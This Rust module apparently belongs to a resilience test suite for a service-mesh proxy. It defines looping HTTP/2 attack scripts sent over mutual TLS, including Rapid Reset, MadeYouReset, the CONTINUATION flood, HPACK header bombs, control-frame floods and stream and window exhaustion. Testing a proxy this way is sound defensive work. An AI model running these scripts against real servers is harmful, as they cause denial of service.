//! Attacks of a peer with a certificate of the mesh: scripts of HTTP/2 frames on tunnels of its own.

use std::{io, net::SocketAddr, sync::Arc, time::Duration};

use rustls::ClientConfig;
use rustls_pki_types::ServerName;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

use super::{
    frames::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY,
        RST_STREAM, SETTINGS, UNKNOWN, WINDOW_UPDATE, bomb, connect, field, frame, frames, opening,
        remembered_connect, stream,
    },
    hands::Blows,
};
use crate::protocols::tls::{buffer::Buffers, handshake};

/// The frames of one write.
const BURST: u32 = 256;
/// The code CANCEL of RST_STREAM (RFC 9113 section 7).
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

/// The door that a peer knocks at.
#[derive(Clone)]
pub(super) struct Door {
    /// The pod's HBONE listener.
    pub(super) to: SocketAddr,
    /// The attacker's certificate, and whom it expects there.
    pub(super) tls: Arc<ClientConfig>,
}

/// What a peer writes on a tunnel.
pub(super) struct Script {
    /// The settings of the peer.
    settings: Vec<(u16, u32)>,
    /// The frames before the first round.
    first: Vec<u8>,
    /// The frames of a round; none if the peer just holds what it has.
    round: Box<dyn Fn(u32) -> Vec<u8> + Send + Sync>,
    /// The blows of a round.
    blows: u64,
}

impl Script {
    /// A script of `first` and then rounds of so many blows.
    fn new(first: Vec<u8>, blows: u32, round: impl Fn(u32) -> Vec<u8> + Send + Sync + 'static) -> Self {
        Self { settings: Vec::new(), first, round: Box::new(round), blows: blows.into() }
    }

    /// A script that repeats one frame.
    fn flood(first: Vec<u8>, kind: u8, stream: u32, payload: &[u8]) -> Self {
        let burst = frames(BURST as usize, kind, stream, payload);
        Self::new(first, BURST, move |_| burst.clone())
    }
}

/// Requests that are reset at once (CVE-2023-44487).
pub(super) fn rapid_resets(app: &str) -> Script {
    let block = connect(app.as_bytes());
    Script::new(Vec::new(), BURST, move |round| {
        each(round, |stream| {
            [frame(HEADERS, END_HEADERS, stream, &block), frame(RST_STREAM, 0, stream, &CANCEL)].concat()
        })
    })
}

/// Requests that the server has to reset, by an increment of zero (CVE-2025-8671).
pub(super) fn made_you_resets(app: &str) -> Script {
    let block = connect(app.as_bytes());
    Script::new(Vec::new(), BURST, move |round| {
        each(round, |stream| {
            [frame(HEADERS, END_HEADERS, stream, &block), frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat()
        })
    })
}

/// A header block without an end (CVE-2024-27316).
pub(super) fn continuations(app: &str) -> Script {
    let first = frame(HEADERS, 0, 1, &connect(app.as_bytes()));
    let more = frame(CONTINUATION, 0, 1, &field(b"x", &[b'y'; 1_000]).repeat(16));
    Script::new(first, 1, move |_| more.clone())
}

/// DATA without bytes.
pub(super) fn empty_data(app: &str) -> Script {
    Script::flood(request(0, app), DATA, 1, &[])
}

/// DATA of one byte each.
pub(super) fn single_bytes(app: &str) -> Script {
    Script::flood(request(0, app), DATA, 1, &[7])
}

/// SETTINGS that each need an answer.
pub(super) fn settings() -> Script {
    Script::flood(Vec::new(), SETTINGS, 0, &[])
}

/// PINGs that each need an answer.
pub(super) fn pings() -> Script {
    Script::flood(Vec::new(), PING, 0, &[0; 8])
}

/// Priorities, which mean nothing.
pub(super) fn priorities() -> Script {
    Script::flood(Vec::new(), PRIORITY, 3, &[0, 0, 0, 0, 1])
}

/// Windows that grow by one byte.
pub(super) fn window_updates() -> Script {
    Script::flood(Vec::new(), WINDOW_UPDATE, 0, &1_u32.to_be_bytes())
}

/// Frames of a type that nobody knows.
pub(super) fn unknown_frames() -> Script {
    Script::flood(Vec::new(), UNKNOWN, 0, &[])
}

/// Fields of one byte that stand for 4,000.
pub(super) fn header_bombs(app: &str) -> Script {
    const REPEATED: usize = 12_000;
    let (remembered, again) = bomb(b"x", &[b'y'; 3_900]);
    let block = [connect(app.as_bytes()), remembered, vec![again; REPEATED]].concat();
    Script::new(Vec::new(), 1, move |round| frame(HEADERS, END_HEADERS | END_STREAM, stream(round), &block))
}

/// Streams whose answers may not be sent.
pub(super) fn zero_windows(app: &str) -> Script {
    const STREAMS: u32 = 190;
    let of = |n| [request(n, app), frame(DATA, 0, stream(n), &[7; 16_000])].concat();
    let script = Script::new((0..STREAMS).flat_map(of).collect(), 0, |_| Vec::new());
    Script { settings: vec![(INITIAL_WINDOW_SIZE, 0)], ..script }
}

/// More streams than are announced, which stay open.
pub(super) fn many_streams(app: &str) -> Script {
    const STREAMS: u32 = 600;
    let all = (0..STREAMS).flat_map(|n| request(n, app)).collect();
    Script::new(all, 0, |_| Vec::new())
}

/// Requests for what is no address.
pub(super) fn odd_authorities() -> Script {
    const ODD: [&[u8]; 10] = [
        b"",
        b":",
        b"a",
        b"[::1",
        b"10.77.2.2:99999",
        b"0.0.0.0:0",
        b"..:1",
        b"\xff\xfe:80",
        b"10.77.2.2:9000/x",
        b"a@b:1",
    ];
    Script::new(Vec::new(), BURST, move |round| {
        let block = |stream: u32| {
            connect(ODD.iter().cycle().nth(stream as usize / 2 % ODD.len()).copied().unwrap_or_default())
        };
        each(round, |stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &block(stream)))
    })
}

/// Requests of eleven bytes whose refusal is a long line of the log.
pub(super) fn long_lines() -> Script {
    let (first, again) = remembered_connect(&[b'a'; 3_900]);
    let first = frame(HEADERS, END_HEADERS | END_STREAM, 1, &first);
    Script::new(first, BURST, move |round| {
        each(round + 1, |stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &again))
    })
}

/// Requests with long baggage, each with words of its own, from a network that nobody knows.
pub(super) fn baggage(app: &str) -> Script {
    let app = app.as_bytes().to_vec();
    Script::new(Vec::new(), 1, move |round| {
        let words = format!("k8s.namespace.name=n{round},service.name={}{round}", "s".repeat(10_000));
        let said =
            [field(b"baggage", words.as_bytes()), field(b"x-forwarded-network", b"elsewhere")].concat();
        let block = [connect(&app), said].concat();
        [frame(HEADERS, END_HEADERS, stream(round), &block), frame(RST_STREAM, 0, stream(round), &CANCEL)]
            .concat()
    })
}

fn request(n: u32, app: &str) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream(n), &connect(app.as_bytes()))
}

/// The frames of a burst of streams that no round before had.
fn each(round: u32, of: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let first = round.wrapping_mul(BURST);
    (0..BURST).flat_map(|n| of(stream(first.wrapping_add(n)))).collect()
}

/// Plays a script on a tunnel until the tunnel ends. Whatever comes back is read and dropped.
pub(super) async fn play(door: Door, script: Arc<Script>, blows: Blows) -> io::Result<()> {
    const HOLD: Duration = Duration::from_millis(20);
    let io = TcpStream::connect(door.to).await?;
    let name = ServerName::from(door.to.ip());
    let shaken = handshake::connect(door.tls, name, io, Buffers::default()).await;
    let (stream, _) = shaken.map_err(io::Error::other)?;
    let (mut read, mut write) = tokio::io::split(stream);
    let writing = async {
        write.write_all(&opening(&script.settings)).await?;
        write.write_all(&script.first).await?;
        write.flush().await?;
        blows.dealt(1);
        for round in 0.. {
            let frames = (script.round)(round);
            if frames.is_empty() {
                tokio::time::sleep(HOLD).await;
                continue;
            }
            write.write_all(&frames).await?;
            write.flush().await?;
            blows.dealt(script.blows);
        }
        io::Result::Ok(())
    };
    let reading = async {
        let mut sink = vec![0; 16 << 10];
        while read.read(&mut sink).await? > 0 {}
        io::Result::Ok(())
    };
    tokio::select! {
        written = writing => written,
        ended = reading => ended,
    }
}
